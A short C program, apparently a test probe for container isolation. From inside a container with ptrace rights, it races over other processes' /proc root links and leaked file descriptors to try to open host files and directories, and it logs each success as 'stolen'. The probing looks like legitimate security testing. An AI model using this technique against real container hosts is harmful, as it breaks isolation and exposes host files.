// A process of a container that may trace others (CAP_SYS_PTRACE): looks at every process that appears, as fast as it can, for
// a directory of the host. argv: a file of the host, the same from /proc of the host, directory for the results.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <unistd.h>

static const char *directory;

static void say(const char *name, const char *what) {
  char path[256];
  snprintf(path, sizeof path, "%s/%s", directory, name);
  int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
  if (fd >= 0) dprintf(fd, "%s\n", what);
  close(fd);
}

static void try(int at, const char *path, const char *how) {
  int fd = openat(at, path, O_RDONLY);
  if (fd < 0) return;
  say("stolen", how);
  close(fd);
}

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  directory = argv[3];
  say("ready", "");
  for (;;)
    for (int pid = 2; pid < 200; pid++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/fd", pid);
      int fds = open(path, O_RDONLY | O_DIRECTORY);
      if (fds < 0) continue;
      char root[512];
      snprintf(root, sizeof root, "/proc/%d/root%s", pid, argv[1]);
      try(AT_FDCWD, root, "the root of a process");
      for (int number = 3; number < 20; number++) {
        char name[8];
        struct stat status;
        snprintf(name, sizeof name, "%d", number);
        int fd = openat(fds, name, O_PATH);
        if (fd < 0) continue;
        if (fstat(fd, &status) == 0 && S_ISDIR(status.st_mode)) {
          try(fd, argv[1] + 1, "a directory of the host");
          try(fd, argv[2], "the host's /proc");
        }
        close(fd);
      }
      close(fds);
    }
}
